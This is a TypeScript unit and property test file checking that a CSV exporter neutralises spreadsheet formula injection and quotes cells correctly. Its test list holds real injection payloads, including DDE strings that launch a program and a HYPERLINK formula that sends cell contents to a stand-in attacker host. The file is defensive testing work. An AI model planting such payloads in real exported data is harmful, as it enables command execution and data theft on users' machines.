import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRow, plainCell } from "../src/export/csv.js";

/** How people have made spreadsheets run what they were shown. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "+84 912 345 678",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "－1+1",
  "＠SUM(1)",
  "--5",
  "-",
  "=",
  "-1,5",
  "-1e",
];
const HARMLESS = [
  "",
  "-5",
  "-390000.50",
  "1e-7",
  "Mắt kính",
  'say "hi", now',
  "two\nlines",
  "two\r\nlines",
  "a;=1+1",
  "a\t=1+1",
  "'=1",
  "{email:a,email:b}",
];

const cellsIn = (text: string): string[][] => parse(text, { record_delimiter: "\r\n" });

describe("a CSV cell", () => {
  it.each(FORMULAS)("%j is marked as text", (text) => {
    expect(plainCell(text)).toBe(`'${text}`);
    expect(cellsIn(csvRow([text, "x"]))).toEqual([[`'${text}`, "x"]]);
  });

  it.each(HARMLESS)("%j stays as it is", (text) => {
    expect(cellsIn(csvRow([text, "x"]))).toEqual([[text, "x"]]);
  });

  it("is quoted where another program would see the end of a cell or line in it", () => {
    expect(csvRow(["a,b", 'c"d', "e;=f", "g\t=h", "i\nj", "k\rl", null, "m"])).toBe('"a,b","c""d","e;=f","g\t=h","i\nj","k\rl",,m\r\n');
  });

  it("comes back from a CSV parser, whatever it is, with an apostrophe at most in front, and never begins a formula", () => {
    const piece = fc.oneof(
      fc.constantFrom(...FORMULAS, ...HARMLESS, ",", '"', "=", "\r\n", "'"),
      fc.string({ unit: "grapheme", maxLength: 5 }),
    );
    const cell = fc.array(piece, { maxLength: 3 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const read = cellsIn(rows.map(csvRow).join(""));
        expect(read).toHaveLength(rows.length);
        for (const [index, row] of rows.entries())
          for (const [column, text] of row.entries()) {
            const got = read[index]?.[column] ?? "";
            expect([text, `'${text}`]).toContain(got);
            expect(/^-?[\d.]+(e[+-]?\d+)?$/i.test(got) || !/^\s*[=+\-@＝＋－＠]/.test(got), JSON.stringify(got)).toBe(true);
          }
      }),
      { numRuns: 500, seed: 20_261_130 },
    );
  });
});
